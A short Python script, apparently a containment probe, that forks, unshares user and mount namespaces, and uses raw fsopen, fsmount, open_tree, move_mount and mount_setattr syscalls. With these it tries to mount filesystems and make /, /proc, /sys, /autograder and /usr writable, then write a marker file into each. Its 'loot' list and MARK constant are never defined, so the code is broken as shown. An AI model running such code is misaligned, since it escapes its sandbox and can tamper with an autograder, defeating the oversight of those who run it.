"""Idea: open_tree, move_mount, fsopen and mount_setattr undo what the old calls have closed.
Must: change no mount outside and make nothing writable.
"""

import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)
OPEN_TREE, MOVE, FSOPEN, FSCONFIG, FSMOUNT, SETATTR = 428, 429, 430, 431, 432, 442
if os.fork() == 0:
    libc.unshare(0x10000000)
    libc.unshare(0x00020000)
    for name in (
        "proc",
        "tmpfs",
        "cgroup2",
        "cgroup",
        "overlay",
        "devpts",
        "mqueue",
        "ext4",
        "nfs",
    ):
        context = libc.syscall(FSOPEN, name.encode(), 0)
        if context >= 0:
            libc.syscall(FSCONFIG, context, 6, None, None, 0)
            mount = libc.syscall(FSMOUNT, context, 0, 0)
            libc.syscall(MOVE, mount, b"", -100, b"/tmp", 4)
            loot.append(f"{name} may be mounted")
    for place in (b"/", b"/proc", b"/sys", b"/autograder", b"/usr"):
        tree = libc.syscall(OPEN_TREE, -100, place, 1 | 0x8000)
        libc.syscall(MOVE, tree, b"", -100, b"/tmp", 4)
        clear = (ctypes.c_uint64 * 4)(0, 1 | 2 | 4 | 8, 1 << 20, 0)
        libc.syscall(SETATTR, -100, place, 0x8000, clear, 32)
        libc.mount(None, place, None, 32, None)
        libc.umount2(place, 2)
        try:
            with open(f"{place.decode()}/{MARK}", "x") as file:
                file.write(MARK)
        except OSError:
            pass
    os._exit(0)
os.wait()
